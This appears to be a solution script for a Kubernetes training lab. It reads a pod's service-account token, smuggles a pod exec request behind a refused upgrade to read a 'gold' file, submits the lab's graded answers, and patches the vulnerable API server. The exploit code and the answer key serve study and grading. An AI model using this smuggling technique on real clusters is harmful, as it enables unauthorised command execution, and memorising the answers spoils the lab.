#!/usr/bin/env bash
# Half-open pipes: speak to a kubelet through a refused upgrade, then leave the museum.
set -euo pipefail

# $1 is the request that follows the refused one.
pipe() {
  kubectl exec guest -- sh -c '
    token=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
    { printf "GET /api/v1/namespaces/default/pods/web/exec HTTP/1.1\r\nHost: x\r\n"
      printf "Authorization: Bearer $token\r\n"
      printf "Connection: Upgrade\r\nUpgrade: SPDY/3.1\r\n\r\n"
      sleep 1
      printf "$1 HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n"
    } | attacker raw 198.51.100.1 6443' sh "$1"
}

exploit() {
  local said
  said=$(pipe "POST /run/vault/keeper/keeper?cmd=cat%%20/gold/gold")
  # Once repaired, the pipe is closed: what was earned stays earned.
  case $said in *"HTTP/1.1 200"*) minilab lab answer gold "$(tail -n 1 <<< "$said")" ;; esac
}

explain() {
  minilab lab answer identity "the API server"
  minilab lab answer audit 0
  minilab lab answer redirect 500
}

# In real life: install a version that is not from a museum.
harden() {
  local before=""
  minilab exec control -- grep -q museum /etc/kubernetes/manifests/kube-apiserver.yaml || return 0
  before=$(minilab exec control -- ps -C kube-apiserver -o pid=)
  minilab exec control -- sed -i /minilab-museum/d /etc/kubernetes/manifests/kube-apiserver.yaml
  until [ "$(minilab exec control -- ps -C kube-apiserver -o pid=)" != "$before" ] &&
    kubectl get --raw /readyz > /dev/null 2>&1; do sleep 0.2; done
}

by_hand() { harden; }

for part in "${@:-exploit explain harden}"; do for one in $part; do "$one"; done; done
